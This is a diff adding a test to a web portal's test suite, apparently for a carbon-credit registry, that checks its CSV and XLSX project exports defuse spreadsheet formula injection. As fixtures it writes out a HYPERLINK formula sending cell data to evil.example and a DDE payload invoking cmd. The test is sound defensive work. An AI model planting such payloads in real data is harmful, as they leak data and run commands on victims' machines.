@@ -400,3 +400,31 @@ def test_pages_in_french_and_spanish(portal: Portal, lang: str, words: str, numb
     for path in ("/projects/", f"/projects/{portal.mangrove.project_id}/", "/ledger/",
                  f"/certificates/{portal.retirement.identifier}/", "/serials/"):
         assert get(path, lang).status_code == 200
+
+
+# -- formula injection ---------------------------------------------------------------------------
+
+
+def test_formula_injection_in_project_exports_is_neutralised(portal: Portal) -> None:
+    from openpyxl import load_workbook
+
+    from tonne.portal import summary
+    from tonne.projects.models import Location, Project
+
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
+    project = Project.objects.get(name="Ebrié lagoon mangroves")
+    Project.objects.filter(pk=project.pk).update(name=evil)
+    Location.objects.filter(project=project).update(region="@SUM(1+1)*cmd|' /C calc'!A0")
+    summary.refresh([project.pk])
+    r = get("/projects/export.csv")
+    rows = list(csv.reader(io.StringIO(b"".join(r.streaming_content).decode("utf-8-sig"))))
+    row = next(dict(zip(rows[0], x, strict=True)) for x in rows[1:] if x[1].startswith("'="))
+    assert row["name"] == "'" + evil and row["regions"].startswith("'@")
+    assert row["units_issued"] == "15000"  # numbers stay numbers
+    sheet = load_workbook(io.BytesIO(get("/projects/export.xlsx").content)).active
+    names = [r[1] for r in sheet.iter_rows(min_row=2, values_only=True)]
+    assert "'" + evil in names and not any(str(n).startswith("=") for n in names)
+    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)  # no formula cell
+    rows = list(csv.reader(io.StringIO(get("/dashboard/by-region.csv").content.decode("utf-8-sig"))))
+    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
+    assert any(row[0].startswith("'@") for row in rows)
